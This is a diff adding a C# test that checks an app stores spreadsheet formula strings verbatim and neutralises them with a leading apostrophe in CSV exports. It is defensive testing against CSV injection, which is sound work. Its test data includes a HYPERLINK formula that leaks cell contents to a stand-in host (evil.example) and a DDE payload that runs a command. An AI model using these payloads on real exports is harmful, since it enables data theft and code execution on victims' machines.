@@ -37,6 +37,32 @@ public abstract class InjectionStringTests(IPerfEvalApp app)
         Assert.Equal(HttpStatusCode.OK, (await admin.GetAsync($"/api/v1/findings?ruleId={query}")).StatusCode);
         Assert.Equal(1, await admin.VersionCountAsync(agency, 2022));
     }
+
+    public static TheoryData<string> FormulaStrings() => new(
+        "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击\")", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "=1+1", "-负数");
+
+    /// <summary>
+    /// Spreadsheet formulas are data too: stored and returned verbatim as JSON, and written to the CSV export with a
+    /// leading apostrophe so that a spreadsheet shows them as text instead of running them (OWASP CSV injection).
+    /// </summary>
+    [Theory]
+    [MemberData(nameof(FormulaStrings))]
+    public async Task Formula_strings_are_stored_verbatim_and_exported_as_text(string formula)
+    {
+        var admin = app.Client();
+        var agency = "csv-" + Guid.NewGuid().ToString("N")[..8];
+        await admin.CreateAgencyAsync(agency, "430424", formula);
+        Assert.Equal(HttpStatusCode.Created, (await admin.PutReportAsync(agency, 2022, Documents.Minimal(2022, agencyName: formula))).StatusCode);
+
+        var read = JsonNode.Parse(await admin.GetStringAsync($"/api/v1/agencies/{agency}"))!;
+        Assert.Equal(formula, read["name"]!.GetValue<string>());
+        var csv = await admin.GetStringAsync("/api/v1/exports/reports?regionCode=430424&fiscalYear=2022&format=csv");
+        var neutral = "'" + formula;
+        var quoted = "\"" + neutral.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
+        Assert.True(csv.Contains("," + neutral + ",", StringComparison.Ordinal) || csv.Contains("," + quoted + ",", StringComparison.Ordinal)
+            || csv.Contains("," + neutral + "\r\n", StringComparison.Ordinal) || csv.Contains("," + quoted + "\r\n", StringComparison.Ordinal), csv);
+        Assert.DoesNotContain("," + formula + ",", csv, StringComparison.Ordinal);
+    }
 }
 
 public sealed class InjectionStringTests_Sqlite(SqliteApp app) : InjectionStringTests(app), IClassFixture<SqliteApp>;
